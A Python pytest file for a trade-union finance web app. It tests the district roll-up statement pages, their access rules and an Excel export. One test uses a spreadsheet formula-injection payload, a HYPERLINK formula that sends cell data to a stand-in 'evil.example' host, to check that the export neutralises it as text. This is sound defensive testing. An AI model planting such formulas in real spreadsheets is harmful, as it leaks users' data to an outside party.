"""The roll-up pages under /o/<code>/upper/finance/: works for the district / a grassroots
chair gets 404 at the district (outside their scope) / other district 404 / a role without
finance.statements:read 403 / wrong method 405; the table of unions, its sorting and
links, and the .xlsx (formula-safe, logged)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from gonghui.audit.models import AuditEntry
from gonghui.core.scoping import unscoped
from tests.factories import UnionFactory
from tests.funds.conftest import holder

from .conftest import YEAR

pytestmark = pytest.mark.usefixtures("platform")


def _url(org, what=""):
    return f"/o/{org.code}/upper/finance/{what}"


@pytest.fixture
def district_staff(district, staff):
    return staff("upper_staff", district)


def test_the_district_reads_the_summed_statements_and_each_union(
    login, district, tree, district_staff
):
    a, b, c = tree
    r = login(district_staff).get(_url(district, f"{YEAR}/"))
    assert r.status_code == 200
    body = r.content.decode()
    for text in ("资产负债表（汇总）", "收入支出表（汇总）", "工会01表", "工会02表", district.name):
        assert text in body, text
    assert "11,500.50" in body  # 货币资金 at the year's end, summed
    for union in (a, b, c):
        assert union.name in body
        assert f"/o/{union.code}/finance/statements/?year={YEAR}&amp;month=" in body
    assert "无账" in body or "No books" in body
    assert f'href="{_url(district, f"{YEAR}/xlsx/")}"' in body


def test_the_unions_table_sorts_by_a_key_line_without_books_last(
    login, district, tree, district_staff
):
    a, b, c = tree
    c_ = login(district_staff)

    def order(sort):
        body = c_.get(_url(district, f"{YEAR}/"), {"sort": sort}).content.decode()
        section = body[body.index('id="unions"') :]
        return sorted((a, b, c), key=lambda u: section.index(u.name))

    assert order("-income") == [b, a, c]  # 8,000 before 1,200.50
    assert order("income") == [a, b, c]
    assert order("-assets") == [b, a, c]
    assert order("nonsense")[2] in (a, b, c)  # ignored: tree order, still 200


def test_the_district_follows_a_union_to_its_own_statements(login, district, tree, district_staff):
    a, _b, _c = tree
    r = login(district_staff).get(f"/o/{a.code}/finance/statements/", {"year": YEAR, "month": ""})
    assert r.status_code == 200


def test_the_year_chooser_goes_to_the_year(login, district, district_staff):
    c = login(district_staff)
    r = c.get(_url(district))
    assert r.status_code == 200 and 'id="year-form"' in r.content.decode()
    r = c.get(_url(district), {"year": "2030"})
    assert r.status_code == 302 and r["Location"] == _url(district, "2030/")
    # A year out of range is a page that does not exist.
    assert c.get(_url(district, "1999/")).status_code == 404


def test_a_grassroots_chair_gets_404_at_the_district_and_an_empty_page_at_home(
    login, district, tree
):
    a, _b, _c = tree
    chair = holder("chair", a)
    c = login(chair)
    assert c.get(_url(district)).status_code == 404
    assert c.get(_url(district, f"{YEAR}/")).status_code == 404
    assert c.get(_url(district, f"{YEAR}/xlsx/")).status_code == 404
    r = c.get(_url(a, f"{YEAR}/"))
    assert r.status_code == 200
    assert 'id="no-unions"' in r.content.decode()


def test_another_district_gets_404(login, district, tree, staff):
    other = staff("upper_staff", UnionFactory().parent)
    c = login(other)
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.get(_url(district, what)).status_code == 404, what


def test_a_role_without_the_statements_gets_403(login, district, tree, staff):
    c = login(staff("member", district))
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.get(_url(district, what)).status_code == 403, what


def test_a_wrong_method_gets_405(login, district, district_staff):
    c = login(district_staff)
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.post(_url(district, what)).status_code == 405, what


def test_the_workbook_holds_both_statements_and_the_unions_hostile_names_as_text(
    login, district, tree, district_staff
):
    a, _b, _c = tree
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    with unscoped():
        a.name = hostile
        a.save()
        district.name = "=1+1区总工会"
        district.save()
    r = login(district_staff).get(_url(district, f"{YEAR}/xlsx/"))
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["资产负债表（汇总）", "收入支出表（汇总）", "各工会主要指标"]
    everything = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in everything if c.data_type in ("f", "e")]
    assert any(str(c.value).startswith("=1+1区总工会") for c in everything)
    table = wb["各工会主要指标"]
    cells = [c for row in table.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    rows = {row[0]: row for row in table.iter_rows(values_only=True) if row and row[0]}
    assert rows[a.code][2] == "有账" and rows[_c.code][2] == "无账"
    assert rows[_b.code][3] == 8000  # 收入合计, a number in the cell
    flows = {row[0]: row for row in wb["收入支出表（汇总）"].iter_rows(values_only=True)}
    assert flows["会费收入"][2] == 1200.5
    with unscoped():
        entry = AuditEntry.objects.filter(action="upper.finance.exported").get()
    assert entry.org_id == district.pk and entry.actor == district_staff
    assert entry.changes["year"] == YEAR and entry.changes["unions"] == 3


def test_the_menu_has_the_entry_for_the_district(login, district, district_staff):
    body = login(district_staff).get(f"/o/{district.code}/").content.decode()
    assert _url(district) in body


def test_the_menu_has_no_entry_at_a_grassroots_union(login, union):
    # A chair reads statements, but a grassroots union has no unions below to roll up.
    body = login(holder("chair", union)).get(f"/o/{union.code}/").content.decode()
    assert _url(union) not in body
    assert f"/o/{union.code}/finance/" in body  # the union's own books are there
